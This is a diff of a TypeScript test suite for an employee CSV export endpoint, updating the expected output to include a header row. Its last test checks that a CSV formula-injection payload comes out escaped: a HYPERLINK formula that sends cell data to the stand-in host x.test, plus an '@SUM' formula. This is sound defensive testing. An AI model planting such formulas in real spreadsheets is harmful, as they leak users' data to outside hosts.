@@ -671,14 +671,18 @@ describeEachBackend('funcionarios', (backend) => {
     const exportar = (body: Record<string, unknown>, token = admin) =>
       post('/api/funcionario/exportar-csv', { opcaoExportar: 'TODOS', idCnpj: ids.principal, ...body }, token);
 
-    it('TODOS: ISO-8859-1, ";", sem cabeçalho, no layout da importação, ativos e inativos', async () => {
+    it('TODOS: ISO-8859-1, ";", com cabeçalho, no layout da importação, ativos e inativos', async () => {
       const r = await exportar({});
       expect(r.status).toBe(200);
       expect(r.res.headers['content-type']).toBe('text/csv; charset=ISO-8859-1');
       const ik = decodeIkResponse(String(r.res.headers['ik-response']));
       expect(ik).toMatchObject({ status: 'OK', nomeArquivo: '11222333000181.csv' });
       const texto = r.res.rawPayload.toString('latin1');
-      const linhas = texto.split('\r\n').filter(Boolean);
+      const [cabecalho, ...linhas] = texto.split('\r\n').filter(Boolean);
+      // The header names each column (issue 24 §6), in the import's order.
+      expect(cabecalho).toBe(
+        'Nome;PIS;CPF;Crachá;Registro;Data de admissão;Cargo;Centro de custo;Senha do teclado;Data de nascimento;E-mail',
+      );
       const total =
         (await listar({ ativo: true, qtdLinhas: 1 })).body.qdtFuncionarios +
         (await listar({ ativo: false, qtdLinhas: 1 })).body.qdtFuncionarios;
@@ -715,12 +719,13 @@ describeEachBackend('funcionarios', (backend) => {
         idsCentrosCustos: [ids.cc.get('Turno B')],
       });
       const esperado = (await listar({ idsCentrosCustos: [ids.cc.get('Turno B')], qtdLinhas: 1 })).body.qdtFuncionarios;
-      expect(turnoB.res.rawPayload.toString('latin1').split('\r\n').filter(Boolean)).toHaveLength(esperado);
+      // The header, then the employees.
+      expect(turnoB.res.rawPayload.toString('latin1').split('\r\n').filter(Boolean)).toHaveLength(esperado + 1);
       const um = await exportar({ opcaoExportar: 'FILTRO_TELA', crachaNome: DEMO_FUNCIONARIOS.comHistorico });
-      expect(um.res.rawPayload.toString('latin1').split('\r\n').filter(Boolean)).toHaveLength(1);
+      expect(um.res.rawPayload.toString('latin1').split('\r\n').filter(Boolean)).toHaveLength(2);
       const alvo = (await listar({ crachaNome: DEMO_FUNCIONARIOS.semPis })).body.funcionarios[0];
       const escolhido = await exportar({ opcaoExportar: 'FILTRO_TELA', funcionarios: [{ id: alvo.id }] });
-      expect(escolhido.res.rawPayload.toString('latin1')).toMatch(new RegExp(`^${DEMO_FUNCIONARIOS.semPis};;`));
+      expect(escolhido.res.rawPayload.toString('latin1')).toMatch(new RegExp(`\r\n${DEMO_FUNCIONARIOS.semPis};;`));
       const semEmpresa = await post('/api/funcionario/exportar-csv', { opcaoExportar: 'TODOS' });
       expect(semEmpresa.status).toBe(400);
       expect(decodeIkResponse(String(semEmpresa.res.headers['ik-response']))).toEqual({
@@ -736,7 +741,7 @@ describeEachBackend('funcionarios', (backend) => {
       expect(r.status, JSON.stringify(r.body)).toBe(200);
       const { cracha } = (await buscar(r.body.id)).funcionario;
       const csv = await exportar({ opcaoExportar: 'FILTRO_TELA', funcionarios: [{ id: r.body.id }] });
-      const [linha] = csv.res.rawPayload.toString('latin1').split('\r\n');
+      const [, linha] = csv.res.rawPayload.toString('latin1').split('\r\n');
       expect(linha!.startsWith(`"'=HYPERLINK(""http://x.test/?""&A1;""Clique"")";`)).toBe(true);
       expect(linha).toContain(`;${cracha};'@SUM(A1);`);
     });
